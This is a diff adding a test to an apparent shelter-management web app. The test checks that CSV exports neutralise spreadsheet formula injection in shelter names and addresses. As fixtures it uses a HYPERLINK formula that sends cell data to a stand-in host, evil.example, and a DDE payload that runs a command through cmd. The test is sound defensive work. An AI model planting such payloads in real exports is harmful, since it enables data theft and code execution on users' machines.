@@ -82,3 +82,22 @@ def test_the_map_says_codes_in_the_words_hq_hands_it_and_keeps_no_copy(hq_client
     for group in map_words().values():
         for text in group.values():
             assert not text or f'"{text}"' not in script, text
+
+
+def test_a_site_named_like_a_formula_stays_text_in_both_csv_files(hq_app, staff_client):
+    """Review: a name or address imported as "=HYPERLINK(…)" or "@SUM(…)" went into HQ's CSV files as it
+    was, and Excel runs it; the kiosk's roster export already kept such cells text.  Numbers stay numbers."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"中港タワー")'
+    with hq_app.app_context():
+        site = db.session.get(Shelter, "E001")
+        site.name, site.address = evil, '@SUM(1+1)*cmd|" /C calc"!A0'
+        db.session.commit()
+    for path in ("/export/shelters.csv", "/export/evacuation_space_standard.csv"):
+        rows = list(csv.reader(io.StringIO(staff_client.get(path).data.decode("utf-8-sig"))))
+        (row,) = [r for r in rows if any(evil in cell for cell in r)]
+        assert "'" + evil in row, path
+        assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "-", "@")], path
+    rows = list(csv.reader(io.StringIO(staff_client.get("/export/shelters.csv").data.decode("utf-8-sig"))))
+    e001 = dict(zip(rows[0], next(r for r in rows if r[0] == "E001")))
+    assert float(e001["緯度"]) > 34 and e001["住所"].startswith("'@SUM")
+    assert all(" / ".join([c] * 2) not in e001["出典"] for c in e001["出典"].split(" / "))   # each credit once
